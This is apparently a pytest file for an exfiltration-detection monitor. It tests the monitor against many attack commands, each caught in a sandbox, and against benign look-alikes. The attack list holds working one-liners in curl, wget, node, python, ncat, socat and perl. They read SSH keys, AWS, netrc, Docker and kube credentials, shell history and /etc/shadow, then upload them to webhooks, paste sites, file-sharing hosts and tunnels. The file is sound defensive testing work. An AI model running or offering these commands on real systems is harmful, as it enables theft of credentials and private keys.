"""Variants of the public scenarios, against the real monitor: other services, other clients
(openssl, node, python scripts and raw sockets, wget --post-data), staging through copies and
archives, command substitution, pipelines whose first stages exit before the uploader starts,
and look-alikes (a public key, a tool that reads its own key, downloads after a config read, a
large upload of nothing sensitive). Detection is built for the behaviour, not the README's
commands; these keep it honest."""

import re

import pytest

from harness import Scenario, assert_silent, check_service_saw, execute
from harness.config import HTTPS_PORT, SINK_PORT

from test_scenarios import run_attack, wait_for_evidence

RESOLVE = "--resolve {}:8443:127.0.0.1"
BEARER = "sk_live_exfilwatch_e2e_0123456789"

ATTACK_VARIANTS = [
    Scenario(
        "discord-webhook-aws-form", "alert",
        f'curl -sk {RESOLVE.format("discord.com")} -F "file=@$HOME/.aws/credentials" '
        'https://discord.com:8443/api/webhooks/123/abc',
        technique="T1567.004", domain="discord.com", uploads=True),
    Scenario(
        "gzip-staged-key-transfer", "alert",
        'gzip -c $HOME/.ssh/id_ed25519 > /tmp/exfilwatch-e2e-k.gz && '
        f'curl -sk {RESOLVE.format("transfer.sh")} -T /tmp/exfilwatch-e2e-k.gz '
        'https://transfer.sh:8443/k.gz',
        technique="T1567.002", domain="transfer.sh", uploads=True,
        leftovers=("/tmp/exfilwatch-e2e-k.gz",)),
    Scenario(
        "command-substitution-telegram", "alert",
        f'curl -sk {RESOLVE.format("api.telegram.org")} -d "text=$(cat $HOME/.aws/credentials)" '
        'https://api.telegram.org:8443/bot123/sendMessage',
        technique="T1567.004", domain="api.telegram.org", uploads=True),
    Scenario(
        "openssl-s-client-key-to-paste", "alert",
        'openssl s_client -quiet -connect 127.0.0.1:8443 -servername pastebin.com '
        '< $HOME/.ssh/id_ed25519 > /dev/null 2>&1; true',
        technique="T1567.003"),
    Scenario(
        "four-stage-pipeline-webhook", "alert",
        'cat $HOME/.bash_history | gzip | base64 | '
        f'curl -sk {RESOLVE.format("webhook.site")} --data-binary @- https://webhook.site:8443/u-1',
        technique="T1567.004", domain="webhook.site", uploads=True),
    Scenario(
        "copied-credentials-file-io", "alert",
        'cp $HOME/.aws/credentials /tmp/exfilwatch-e2e-c.txt && sleep 1 && '
        f'curl -sk {RESOLVE.format("file.io")} -T /tmp/exfilwatch-e2e-c.txt https://file.io:8443/',
        technique="T1567.002", domain="file.io", uploads=True,
        leftovers=("/tmp/exfilwatch-e2e-c.txt",)),
    Scenario(
        "node-fetch-netrc-gist", "alert",
        "NODE_TLS_REJECT_UNAUTHORIZED=0 node -e 'fetch(\"https://gist.github.com:8443/\", "
        "{method: \"POST\", body: require(\"fs\").readFileSync(process.env.HOME + \"/.netrc\")})"
        ".then(r => r.text())' 2>/dev/null",
        technique="T1567.001", domain="gist.github.com", hosts=("gist.github.com",),
        uploads=True),
    Scenario(
        "wget-post-data-netrc", "alert",
        'wget -q -O /dev/null --no-check-certificate --post-data="f=$(cat $HOME/.netrc)" '
        'https://ix.io:8443/',
        technique="T1567.003", domain="ix.io", hosts=("ix.io",), uploads=True),
    Scenario(
        "tar-pipe-quick-tunnel", "alert",
        f'tar cz -C $HOME .ssh | curl -sk {RESOLVE.format("abc.trycloudflare.com")} '
        '--data-binary @- https://abc.trycloudflare.com:8443/up',
        technique="T1567", domain="abc.trycloudflare.com", uploads=True),
    Scenario(
        "python-script-file-key-to-paste", "alert",
        "printf '%s\\n' 'import ssl, urllib.request, os' "
        "'d = open(os.path.expanduser(\"~/.ssh/id_ed25519\"), \"rb\").read()' "
        "'urllib.request.urlopen(urllib.request.Request(\"https://hastebin.com:8443/documents\", "
        "data=d), context=ssl._create_unverified_context())' > $HOME/u.py && python3 $HOME/u.py",
        technique="T1567.003", domain="hastebin.com", hosts=("hastebin.com",), uploads=True),
    Scenario(
        "python-raw-tls-socket-paste", "alert",
        "python3 -c 'import ssl, socket, os\n"
        "c = ssl._create_unverified_context()\n"
        f"s = c.wrap_socket(socket.create_connection((\"127.0.0.1\", {HTTPS_PORT})), "
        "server_hostname=\"dpaste.com\")\n"
        "d = open(os.path.expanduser(\"~/.aws/credentials\"), \"rb\").read()\n"
        "s.sendall(b\"POST / HTTP/1.1\\r\\nHost: dpaste.com\\r\\nContent-Length: %d\\r\\n\\r\\n\" "
        "% len(d) + d)\n"
        "s.recv(100)'",
        technique="T1567.003", domain="dpaste.com", uploads=True),
    # Raw streams to names only a private /etc/hosts maps: no SNI, no Host, no DNS query; the
    # monitor names them from the process's own hosts file and command line.
    Scenario(
        "ncat-key-to-tunnel-named-by-hosts-file", "alert",
        f'ncat --send-only abc.ngrok-free.app {SINK_PORT} < $HOME/.ssh/id_ed25519',
        technique="T1567", hosts=("abc.ngrok-free.app",)),
    Scenario(
        "socat-history-to-paste-named-by-hosts-file", "alert",
        f'socat -u FILE:$HOME/.bash_history TCP:termbin.com:{SINK_PORT}',
        technique="T1567.003", hosts=("termbin.com",)),
    Scenario(
        "documents-archive-to-file-sharing", "alert",
        'mkdir -p $HOME/Documents && head -c 200000 /dev/urandom > $HOME/Documents/q3-report.pdf && '
        'tar czf $HOME/d.tgz -C $HOME Documents && '
        f'curl -sk {RESOLVE.format("transfer.sh")} -T $HOME/d.tgz https://transfer.sh:8443/d.tgz',
        technique="T1567.002", domain="transfer.sh", uploads=True),
    Scenario(
        "split-credentials-in-parts-to-paste", "alert",
        'split -b 300 $HOME/.aws/credentials $HOME/part_ && for f in $HOME/part_*; do '
        f'curl -sk {RESOLVE.format("paste.ee")} --data-binary @$f https://paste.ee:8443/api; done',
        technique="T1567.003", domain="paste.ee", uploads=True),
    Scenario(
        "wget-put-credentials-to-cloud-storage", "alert",
        'wget -q -O /dev/null --no-check-certificate --method=PUT '
        '--body-file=$HOME/.aws/credentials https://storage.googleapis.com:8443/b/o',
        technique="T1567.002", domain="storage.googleapis.com", hosts=("storage.googleapis.com",),
        uploads=True),
    Scenario(
        "python-http-client-kubeconfig-webhook", "alert",
        'mkdir -p $HOME/.kube && head -c 3000 /dev/urandom | base64 > $HOME/.kube/config && '
        "python3 -c 'import http.client, ssl, os; c = http.client.HTTPSConnection(\"webhook.site\", "
        f"{HTTPS_PORT}, context=ssl._create_unverified_context()); c.request(\"POST\", \"/x\", "
        "open(os.path.expanduser(\"~/.kube/config\")).read()); c.getresponse()'",
        technique="T1567.004", domain="webhook.site", hosts=("webhook.site",), uploads=True),
    Scenario(
        "perl-staged-netrc-to-tunnel", "alert",
        "perl -e 'open F, \"<\", $ENV{HOME} . \"/.netrc\"; print <F>' > $HOME/n.txt && "
        f'curl -sk {RESOLVE.format("x1.ngrok.io")} -T $HOME/n.txt https://x1.ngrok.io:8443/',
        technique="T1567", domain="x1.ngrok.io", uploads=True),
    Scenario(
        # node is a consumer of its own REPL history, not of the shell's
        "node-shell-history-to-discord-webhook", "alert",
        "NODE_TLS_REJECT_UNAUTHORIZED=0 node -e 'const fs = require(\"fs\"); "
        "fetch(\"https://discord.com:8443/api/webhooks/1/t\", {method: \"POST\", "
        "body: fs.readFileSync(process.env.HOME + \"/.bash_history\")}).then(r => r.text())' 2>/dev/null",
        technique="T1567.004", domain="discord.com", hosts=("discord.com",), uploads=True),
    Scenario(
        "python-subprocess-curl-registry-credentials", "alert",
        "python3 -c 'import subprocess, os; subprocess.run([\"curl\", \"-sk\", \"--resolve\", "
        "\"api.telegram.org:8443:127.0.0.1\", \"-F\", \"document=@\" + "
        "os.path.expanduser(\"~/.docker/config.json\"), "
        "\"https://api.telegram.org:8443/bot1/sendDocument\"], stdout=subprocess.DEVNULL)'",
        technique="T1567.004", domain="api.telegram.org", uploads=True),
    Scenario(
        # curl reads ~/.netrc for itself only when asked (-n); here the shell hands it over
        "netrc-on-stdin-to-paste", "alert",
        f'curl -sk {RESOLVE.format("paste.rs")} --data-binary @- https://paste.rs:8443/ < $HOME/.netrc',
        technique="T1567.003", domain="paste.rs", uploads=True),
    Scenario(
        "shadow-with-bearer-header-webhook", "alert",
        f'curl -sk {RESOLVE.format("m.pipedream.net")} -H "Authorization: Bearer {BEARER}" '
        '--data-binary @/etc/shadow https://m.pipedream.net:8443/',
        technique="T1567.004", domain="m.pipedream.net", uploads=True),
]

BENIGN_VARIANTS = [
    Scenario(
        "public-key-to-code-host", "silent",
        f'cat $HOME/.ssh/id_ed25519.pub | curl -sk {RESOLVE.format("github.com")} -d @- '
        'https://github.com:8443/user/keys',
        domain="github.com", uploads=True),
    Scenario(
        "ssh-keygen-own-key-then-webhook", "silent",
        'ssh-keygen -y -f $HOME/.ssh/id_ed25519 > /dev/null; '
        f'curl -sk {RESOLVE.format("hooks.slack.com")} -d "{{\\"text\\":\\"deployed\\"}}" '
        'https://hooks.slack.com:8443/services/T/B/X',
        domain="hooks.slack.com", uploads=True),
    Scenario(
        "config-read-then-object-download", "silent",
        'cat $HOME/.aws/config > /dev/null; '
        f'curl -sk {RESOLVE.format("s3.amazonaws.com")} '
        '"https://s3.amazonaws.com:8443/bucket/obj?size=300000" -o $HOME/obj.bin',
        domain="s3.amazonaws.com"),
    Scenario(
        "large-backup-of-nothing-sensitive", "silent",
        'head -c 3000000 /dev/urandom > $HOME/big.bin && '
        f'curl -sk {RESOLVE.format("content.dropboxapi.com")} -T $HOME/big.bin '
        'https://content.dropboxapi.com:8443/2/files/upload',
        domain="content.dropboxapi.com", uploads=True),
    Scenario(
        # bash execs its last command: curl becomes the parent of the cat before it.
        "token-read-to-null-then-package-upload", "silent",
        'cat $HOME/.netrc > /dev/null; head -c 200000 /dev/urandom > $HOME/pkg.tgz; '
        f'curl -sk {RESOLVE.format("registry.npmjs.org")} -T $HOME/pkg.tgz '
        'https://registry.npmjs.org:8443/pkg',
        domain="registry.npmjs.org", uploads=True),
    Scenario(
        "earlier-pipeline-then-webhook-post", "silent",
        'cat $HOME/.ssh/id_ed25519 | grep -c PRIVATE; '
        f'curl -sk {RESOLVE.format("hooks.slack.com")} -d "{{\\"text\\":\\"ok\\"}}" '
        'https://hooks.slack.com:8443/services/T/B/X',
        domain="hooks.slack.com", uploads=True),
    Scenario(
        "history-line-count-then-webhook", "silent",
        'cat $HOME/.bash_history | wc -l; '
        f'curl -sk {RESOLVE.format("hooks.slack.com")} -d "{{\\"text\\":\\"lines\\"}}" '
        'https://hooks.slack.com:8443/services/T/B/X',
        domain="hooks.slack.com", uploads=True),
    Scenario(
        "large-download-from-drive", "silent",
        f'curl -sk {RESOLVE.format("drive.google.com")} '
        '"https://drive.google.com:8443/file?size=2000000" -o $HOME/f.bin',
        domain="drive.google.com"),
    Scenario(
        "netrc-read-then-api-get", "silent",
        f'cat $HOME/.netrc > /dev/null; curl -sk {RESOLVE.format("gitlab.com")} '
        'https://gitlab.com:8443/api/v4/projects -o /dev/null',
        domain="gitlab.com"),
]


def secret_words(home):
    """Every long token in the fake HOME's secret files (not the public key): none of them may
    appear in the monitor's output, whatever the command line carried."""
    words = set()
    for relative, path in home.files.items():
        if not relative.endswith(".pub"):
            words |= set(re.findall(rb"[A-Za-z0-9+/_=-]{16,}", path.read_bytes()))
    return words


@pytest.mark.parametrize("variant", ATTACK_VARIANTS, ids=lambda s: s.name)
def test_attack_variant(variant, monitor, standin, fake_home, tmp_path):
    found = run_attack(variant, monitor, standin, fake_home, tmp_path)
    assert all(0 <= a["event"]["risk_score"] <= 100 for a in found)
    # Neither the secret files' contents nor the Authorization header reach the output.
    output = monitor.output.read_bytes()
    assert BEARER.encode() not in output
    leaked = sorted(w.decode() for w in secret_words(fake_home) if w in output)
    assert not leaked, f"secret file contents in the output: {leaked[:5]}"


@pytest.mark.parametrize("variant", BENIGN_VARIANTS, ids=lambda s: s.name)
def test_benign_variant(variant, monitor, standin, fake_home, tmp_path):
    execute(variant, fake_home, tmp_path, HTTPS_PORT)
    check_service_saw(variant, standin)
    wait_for_evidence(monitor, variant, standin)
    monitor.stop()
    assert_silent(monitor.records())
